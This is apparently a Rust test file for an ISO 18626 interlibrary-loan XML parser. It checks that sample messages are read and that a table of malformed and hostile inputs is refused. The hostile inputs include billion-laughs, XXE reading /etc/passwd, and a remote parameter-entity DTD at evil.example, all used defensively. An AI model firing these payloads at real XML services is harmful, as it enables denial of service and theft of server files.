//! Real-shaped messages read, and a table of bad and hostile ones each refused with the
//! standard's error.

use chrono::{TimeZone, Utc};

use crate::*;

const REQUEST: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<ISO18626Message xmlns="http://illtransactions.org/2013/iso18626" version="2021-2">
  <request>
    <header>
      <supplyingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-ROTA</agencyIdValue></supplyingAgencyId>
      <requestingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMAD</agencyIdValue></requestingAgencyId>
      <timestamp>2026-12-07T14:03:11Z</timestamp>
      <requestingAgencyRequestId>WIMAD-1001</requestingAgencyRequestId>
    </header>
    <bibliographicInfo>
      <title>The Wisconsin idea</title>
      <author>McCarthy, Charles</author>
      <bibliographicItemId>
        <bibliographicItemIdentifierCode>ISBN</bibliographicItemIdentifierCode>
        <bibliographicItemIdentifier>9780299123456</bibliographicItemIdentifier>
      </bibliographicItemId>
      <bibliographicRecordId>
        <bibliographicRecordIdentifierCode>OCLC</bibliographicRecordIdentifierCode>
        <bibliographicRecordIdentifier>ocm00012345</bibliographicRecordIdentifier>
      </bibliographicRecordId>
    </bibliographicInfo>
    <publicationInfo><publicationType>Book</publicationType><publicationDate>1912</publicationDate></publicationInfo>
    <serviceInfo>
      <requestType>New</requestType>
      <serviceType>Loan</serviceType>
      <needBeforeDate>2027-01-15T00:00:00</needBeforeDate>
    </serviceInfo>
    <supplierInfo><supplierCode><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMIL</agencyIdValue></supplierCode></supplierInfo>
    <patronInfo><surname>Doe</surname><givenName>Jane</givenName></patronInfo>
    <billingInfo><maximumCosts><currencyCode>USD</currencyCode><monetaryValue>15.00</monetaryValue></maximumCosts></billingInfo>
  </request>
</ISO18626Message>"#;

const SAM_12: &str = r#"<ill:ISO18626Message xmlns:ill="http://illtransactions.org/2013/iso18626" ill:version="1.2">
  <ill:supplyingAgencyMessage>
    <ill:header>
      <ill:supplyingAgencyId><ill:agencyIdType>OCLC</ill:agencyIdType><ill:agencyIdValue>WIM</ill:agencyIdValue></ill:supplyingAgencyId>
      <ill:requestingAgencyId><ill:agencyIdType>ISIL</ill:agencyIdType><ill:agencyIdValue>US-ROTA</ill:agencyIdValue></ill:requestingAgencyId>
      <ill:timestamp>2026-12-08T09:00:00-06:00</ill:timestamp>
      <ill:requestingAgencyRequestId>WIMAD-1001</ill:requestingAgencyRequestId>
      <ill:supplyingAgencyRequestId>L-77</ill:supplyingAgencyRequestId>
    </ill:header>
    <ill:messageInfo>
      <ill:reasonForMessage>RequestResponse</ill:reasonForMessage>
      <ill:reasonRetry>OnLoan</ill:reasonRetry>
      <ill:retryAfter>2026-12-22T00:00:00Z</ill:retryAfter>
    </ill:messageInfo>
    <ill:statusInfo>
      <ill:status>RetryPossible</ill:status>
      <ill:lastChange>2026-12-08T09:00:00-06:00</ill:lastChange>
    </ill:statusInfo>
  </ill:supplyingAgencyMessage>
</ill:ISO18626Message>"#;

const RAM: &str = r#"<ISO18626Message xmlns="http://illtransactions.org/2013/iso18626" version="2021-2">
  <requestingAgencyMessage>
    <header>
      <supplyingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMIL</agencyIdValue></supplyingAgencyId>
      <requestingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMAD</agencyIdValue></requestingAgencyId>
      <timestamp>2026-12-10T10:00:00Z</timestamp>
      <requestingAgencyRequestId>WIMAD-1001</requestingAgencyRequestId>
    </header>
    <action>Received</action>
  </requestingAgencyMessage>
</ISO18626Message>"#;

#[test]
fn reads_a_2021_request() {
    let Message::Request(r) = parse(REQUEST.as_bytes()).unwrap() else {
        panic!("not a request")
    };
    assert_eq!(r.header.requesting_agency.to_string(), "ISIL:US-WIMAD");
    assert_eq!(r.header.requesting_agency_request_id, "WIMAD-1001");
    assert_eq!(
        r.bibliographic.item_ids,
        [("ISBN".to_string(), "9780299123456".to_string())]
    );
    assert_eq!(r.bibliographic.record_ids[0].1, "ocm00012345");
    assert_eq!(r.service.service_type, ServiceType::Loan);
    assert_eq!(r.suppliers[0].value, "US-WIMIL");
    assert_eq!(r.max_cost, Some(("USD".to_string(), 15.0)));
    assert!(r.service.need_before.is_some());
    // the patron block is kept to relay, and never shown
    assert!(r.relayed.iter().any(|e| e.name == "patronInfo"));
    assert!(!format!("{r:?}").contains("Doe"));
}

#[test]
fn reads_a_1_2_supplying_message_with_a_prefix_and_its_retry_window() {
    let Message::SupplyingAgencyMessage(m) = parse(SAM_12.as_bytes()).unwrap() else {
        panic!("not a supplying agency message")
    };
    assert_eq!(m.status, Status::RetryPossible);
    assert_eq!(m.reason, ReasonForMessage::RequestResponse);
    assert_eq!(m.reason_retry.as_ref().unwrap().value, "OnLoan");
    assert_eq!(
        m.retry_after.unwrap(),
        Utc.with_ymd_and_hms(2026, 12, 22, 0, 0, 0).unwrap()
    );
    assert_eq!(
        m.header.supplying_agency_request_id.as_deref(),
        Some("L-77")
    );
}

#[test]
fn an_accepted_message_is_confirmed_ok_with_its_ids() {
    let at = Utc.with_ymd_and_hms(2026, 12, 10, 10, 0, 1).unwrap();
    let m = parse(RAM.as_bytes()).unwrap();
    let xml = Confirmation::ok(&m, at).to_xml(at);
    let doc = xml::parse(xml.as_bytes()).unwrap();
    let c = doc.child("requestingAgencyMessageConfirmation").unwrap();
    let h = c.child("confirmationHeader").unwrap();
    assert_eq!(h.child("messageStatus").unwrap().text, "OK");
    assert_eq!(
        h.child("requestingAgencyRequestId").unwrap().text,
        "WIMAD-1001"
    );
    assert_eq!(
        h.child("timestampReceived").unwrap().text,
        "2026-12-10T10:00:01Z"
    );
    assert_eq!(c.child("action").unwrap().text, "Received");
    assert!(c.child("errorData").is_none());
}

/// (what, message, the error type, which confirmation, a piece of the error value)
fn hostile() -> Vec<(&'static str, Vec<u8>, ErrorType, Kind, &'static str)> {
    use ErrorType::*;
    use Kind::Request as Rq;
    use Kind::RequestingAgencyMessage as Ra;
    use Kind::SupplyingAgencyMessage as Sa;
    let req = |from: &str, to: &str| {
        assert!(REQUEST.contains(from), "{from}");
        REQUEST.replacen(from, to, 1)
    };
    let sam = |from: &str, to: &str| {
        assert!(SAM_12.contains(from), "{from}");
        SAM_12.replacen(from, to, 1)
    };
    let ram = |from: &str, to: &str| {
        assert!(RAM.contains(from), "{from}");
        RAM.replacen(from, to, 1)
    };
    let ns = "http://illtransactions.org/2013/iso18626";
    // Latin-1 sent as if it were UTF-8: "Wisconsin" with an ø as one byte
    let latin1: Vec<u8> = REQUEST
        .replacen("Wisconsin", "Wisc\u{1}nsin", 1)
        .bytes()
        .map(|b| if b == 1 { 0xf8 } else { b })
        .collect();
    let text: Vec<(&'static str, String, ErrorType, Kind, &'static str)> = vec![
        ("empty body", String::new(), BadlyFormedMessage, Rq, "empty"),
        ("not XML", "hello".into(), BadlyFormedMessage, Rq, "outside the root"),
        ("JSON", r#"{"request": {}}"#.into(), BadlyFormedMessage, Rq, "outside the root"),
        ("truncated", REQUEST[..REQUEST.len() / 2].into(), BadlyFormedMessage, Rq, "well-formed"),
        ("mismatched tags", req("</title>", "</titel>"), BadlyFormedMessage, Rq, "well-formed"),
        ("two roots", format!("{RAM}{RAM}"), BadlyFormedMessage, Rq, "after the root"),
        ("no namespace", REQUEST.replace(&format!(" xmlns=\"{ns}\""), ""), BadlyFormedMessage, Rq, "namespace"),
        ("wrong namespace", REQUEST.replace(ns, "http://illtransactions.org/2013/iso18626-x"), BadlyFormedMessage, Rq, "namespace"),
        ("foreign element inside", req("<title>", "<x:title xmlns:x=\"urn:other\">").replacen("</title>", "</x:title>", 1), BadlyFormedMessage, Rq, "namespace"),
        ("billion laughs", format!(r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><ISO18626Message xmlns="{ns}" version="1.2">&lol2;</ISO18626Message>"#), BadlyFormedMessage, Rq, "DOCTYPE"),
        ("external entity", format!(r#"<!DOCTYPE m [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ISO18626Message xmlns="{ns}" version="1.2"><request>&xxe;</request></ISO18626Message>"#), BadlyFormedMessage, Rq, "DOCTYPE"),
        ("parameter entity", format!(r#"<!DOCTYPE m [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><ISO18626Message xmlns="{ns}" version="1.2"/>"#), BadlyFormedMessage, Rq, "DOCTYPE"),
        ("undefined entity", req("The Wisconsin idea", "&nbsp;"), BadlyFormedMessage, Rq, "well-formed"),
        ("huge", format!("{}{}", REQUEST, " ".repeat(xml::MAX_BYTES)), BadlyFormedMessage, Rq, "over the limit"),
        ("deep nesting", req("<title>", &format!("{}<title>", "<note>".repeat(40))), BadlyFormedMessage, Rq, "deeper"),
        ("element flood", req("<title>", &format!("{}<title>", "<volume>1</volume>".repeat(xml::MAX_ELEMENTS))), BadlyFormedMessage, Rq, "more than"),
        ("wrong root", REQUEST.replace("ISO18626Message", "ISO10161Message"), BadlyFormedMessage, Rq, "root element"),
        ("no version", REQUEST.replace(" version=\"2021-2\"", ""), BadlyFormedMessage, Rq, "version"),
        ("unknown version", REQUEST.replace("2021-2", "3.0"), UnrecognisedDataValue, Rq, "version"),
        ("two messages", REQUEST.replace("</request>", "</request><request/>"), BadlyFormedMessage, Rq, "exactly one"),
        ("no message", format!(r#"<ISO18626Message xmlns="{ns}" version="1.2"/>"#), BadlyFormedMessage, Rq, "exactly one"),
        ("a confirmation sent to us", format!(r#"<ISO18626Message xmlns="{ns}" version="1.2"><requestConfirmation/></ISO18626Message>"#), UnrecognisedDataElement, Rq, "requestConfirmation"),
        ("unknown message", format!(r#"<ISO18626Message xmlns="{ns}" version="1.2"><shipment/></ISO18626Message>"#), UnrecognisedDataElement, Rq, "shipment"),
        ("no header", req("<header>", "<headerx>").replace("</header>", "</headerx>"), BadlyFormedMessage, Rq, "missing request/header"),
        ("missing requester", req("<requestingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMAD</agencyIdValue></requestingAgencyId>", ""), BadlyFormedMessage, Rq, "requestingAgencyId"),
        ("requester without a value", req("<agencyIdValue>US-WIMAD</agencyIdValue>", ""), BadlyFormedMessage, Rq, "agencyIdValue"),
        ("empty request id", req("<requestingAgencyRequestId>WIMAD-1001</requestingAgencyRequestId>", "<requestingAgencyRequestId/>"), BadlyFormedMessage, Rq, "requestingAgencyRequestId"),
        ("missing request id", req("<requestingAgencyRequestId>WIMAD-1001</requestingAgencyRequestId>", ""), BadlyFormedMessage, Rq, "requestingAgencyRequestId"),
        ("bad timestamp", req("2026-12-07T14:03:11Z", "yesterday"), UnrecognisedDataValue, Rq, "timestamp: yesterday"),
        ("missing timestamp", req("<timestamp>2026-12-07T14:03:11Z</timestamp>", ""), BadlyFormedMessage, Rq, "timestamp"),
        ("unknown header element", req("<timestamp>", "<priority>1</priority><timestamp>"), UnrecognisedDataElement, Rq, "header/priority"),
        ("no bibliographic info", req("<bibliographicInfo>", "<bibliographicInfox>").replace("</bibliographicInfo>", "</bibliographicInfox>"), UnrecognisedDataElement, Rq, "bibliographicInfox"),
        ("nothing to find", req("<title>The Wisconsin idea</title>", "").replace("<bibliographicItemId>\n        <bibliographicItemIdentifierCode>ISBN</bibliographicItemIdentifierCode>\n        <bibliographicItemIdentifier>9780299123456</bibliographicItemIdentifier>\n      </bibliographicItemId>", "").replace("<bibliographicRecordId>\n        <bibliographicRecordIdentifierCode>OCLC</bibliographicRecordIdentifierCode>\n        <bibliographicRecordIdentifier>ocm00012345</bibliographicRecordIdentifier>\n      </bibliographicRecordId>", ""), BadlyFormedMessage, Rq, "names nothing"),
        ("identifier without a value", req("<bibliographicItemIdentifier>9780299123456</bibliographicItemIdentifier>", ""), BadlyFormedMessage, Rq, "bibliographicItemIdentifier"),
        ("unknown bibliographic element", req("<author>", "<colour>red</colour><author>"), UnrecognisedDataElement, Rq, "bibliographicInfo/colour"),
        ("no service info", req("<serviceInfo>", "<serviceInfox>").replace("</serviceInfo>", "</serviceInfox>"), UnrecognisedDataElement, Rq, "serviceInfox"),
        ("unknown service type", req("<serviceType>Loan</serviceType>", "<serviceType>Borrow</serviceType>"), UnrecognisedDataValue, Rq, "serviceType: Borrow"),
        ("missing service type", req("<serviceType>Loan</serviceType>", ""), BadlyFormedMessage, Rq, "serviceType"),
        ("unknown request type", req("<requestType>New</requestType>", "<requestType>Urgent</requestType>"), UnrecognisedDataValue, Rq, "requestType: Urgent"),
        ("bad need-before date", req("2027-01-15T00:00:00", "15/01/2027"), UnrecognisedDataValue, Rq, "needBeforeDate"),
        ("bad maximum cost", req("<monetaryValue>15.00</monetaryValue>", "<monetaryValue>fifteen</monetaryValue>"), UnrecognisedDataValue, Rq, "monetaryValue: fifteen"),
        ("negative maximum cost", req("<monetaryValue>15.00</monetaryValue>", "<monetaryValue>-5</monetaryValue>"), UnrecognisedDataValue, Rq, "monetaryValue: -5"),
        ("unknown top-level request element", req("</request>", "<bribe>100</bribe></request>"), UnrecognisedDataElement, Rq, "request/bribe"),
        ("supplier message without supplier", sam("<ill:supplyingAgencyId><ill:agencyIdType>OCLC</ill:agencyIdType><ill:agencyIdValue>WIM</ill:agencyIdValue></ill:supplyingAgencyId>", ""), BadlyFormedMessage, Sa, "supplyingAgencyId"),
        ("unknown reason for message", sam(">RequestResponse<", ">Gossip<"), UnsupportedReasonForMessageType, Sa, "reasonForMessage: Gossip"),
        ("missing reason for message", sam("<ill:reasonForMessage>RequestResponse</ill:reasonForMessage>", ""), BadlyFormedMessage, Sa, "reasonForMessage"),
        ("unknown status", sam(">RetryPossible<", ">Lost<"), UnrecognisedDataValue, Sa, "status: Lost"),
        ("missing status info", sam("<ill:statusInfo>", "<ill:statusInfox>").replace("</ill:statusInfo>", "</ill:statusInfox>"), UnrecognisedDataElement, Sa, "statusInfox"),
        ("missing last change", sam("<ill:lastChange>2026-12-08T09:00:00-06:00</ill:lastChange>", ""), BadlyFormedMessage, Sa, "lastChange"),
        ("bad yes/no", sam("<ill:reasonRetry>", "<ill:answerYesNo>Maybe</ill:answerYesNo><ill:reasonRetry>"), UnrecognisedDataValue, Sa, "answerYesNo: Maybe"),
        ("retry reason with Unfilled", sam(">RetryPossible<", ">Unfilled<"), UnrecognisedDataElement, Sa, "reasonRetry"),
        ("bad retry date", sam("2026-12-22T00:00:00Z", "soon"), UnrecognisedDataValue, Sa, "retryAfter: soon"),
        ("unknown action", ram(">Received<", ">Celebrate<"), UnsupportedActionType, Ra, "action: Celebrate"),
        ("missing action", ram("<action>Received</action>", ""), BadlyFormedMessage, Ra, "action"),
        ("unknown requester element", ram("<action>", "<mood>happy</mood><action>"), UnrecognisedDataElement, Ra, "requestingAgencyMessage/mood"),
        ("requester message without supplier", ram("<supplyingAgencyId><agencyIdType>ISIL</agencyIdType><agencyIdValue>US-WIMIL</agencyIdValue></supplyingAgencyId>", ""), BadlyFormedMessage, Ra, "supplyingAgencyId"),
    ];
    let mut cases: Vec<_> = text
        .into_iter()
        .map(|(w, m, e, k, v)| (w, m.into_bytes(), e, k, v))
        .collect();
    cases.push(("not UTF-8", latin1, BadlyFormedMessage, Rq, "not UTF-8"));
    cases
}

#[test]
fn bad_and_hostile_messages_are_refused_with_the_standards_error() {
    let at = Utc.with_ymd_and_hms(2026, 12, 10, 10, 0, 0).unwrap();
    let cases = hostile();
    assert!(cases.len() >= 40, "{} cases", cases.len());
    for (what, msg, error, kind, value) in cases {
        let r = match parse(&msg) {
            Ok(m) => panic!("{what}: accepted as {:?}", m.kind()),
            Err(r) => r,
        };
        assert_eq!(r.error, error, "{what}: {r}");
        assert_eq!(r.kind.unwrap_or(Kind::Request), kind, "{what}: {r}");
        assert!(
            r.value.contains(value),
            "{what}: value {:?} lacks {value:?}",
            r.value
        );
        assert!(
            r.value.len() <= 310,
            "{what}: value of {} bytes",
            r.value.len()
        );
        // the confirmation is itself a well-formed ISO 18626 document saying ERROR
        let xml = Confirmation::refused(&r, at).to_xml(at);
        let doc = xml::parse(xml.as_bytes()).unwrap_or_else(|e| panic!("{what}: {e}"));
        let c = &doc.children[0];
        let h = c.child("confirmationHeader").unwrap();
        assert_eq!(h.child("messageStatus").unwrap().text, "ERROR", "{what}");
        assert_eq!(
            c.child("errorData")
                .unwrap()
                .child("errorType")
                .unwrap()
                .text,
            error.as_str(),
            "{what}"
        );
    }
}

#[test]
fn a_refusal_echoes_the_ids_it_could_read() {
    let msg = RAM.replace(">Received<", ">Celebrate<");
    let r = parse(msg.as_bytes()).unwrap_err();
    assert_eq!(
        r.echo.requesting_agency_request_id.as_deref(),
        Some("WIMAD-1001")
    );
    assert_eq!(r.echo.requesting_agency.as_ref().unwrap().value, "US-WIMAD");
    assert_eq!(r.echo.supplying_agency.as_ref().unwrap().value, "US-WIMIL");
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// Any corruption of a real message is either read or refused with a confirmation
    /// that is itself well-formed: never a panic, never a confirmation we cannot read.
    #[test]
    fn corrupted_messages_never_break_the_reader(
        which in 0usize..3,
        edits in proptest::collection::vec((0usize..4000, proptest::num::u8::ANY), 1..6),
        cut in proptest::option::of(0usize..4000),
    ) {
        let mut b = [REQUEST, SAM_12, RAM][which].as_bytes().to_vec();
        for (at, byte) in edits {
            let i = at % b.len();
            b[i] = byte;
        }
        if let Some(c) = cut {
            b.truncate(c % (b.len() + 1));
        }
        let at = Utc.with_ymd_and_hms(2026, 12, 10, 10, 0, 0).unwrap();
        let conf = match parse(&b) {
            Ok(m) => Confirmation::ok(&m, at),
            Err(r) => Confirmation::refused(&r, at),
        };
        let xml = conf.to_xml(at);
        proptest::prop_assert!(xml::parse(xml.as_bytes()).is_ok(), "{xml}");
        proptest::prop_assert!(
            !xml.chars().any(|c| c < ' ' && !matches!(c, '\t' | '\n' | '\r')),
            "a control character in {xml}"
        );
    }
}
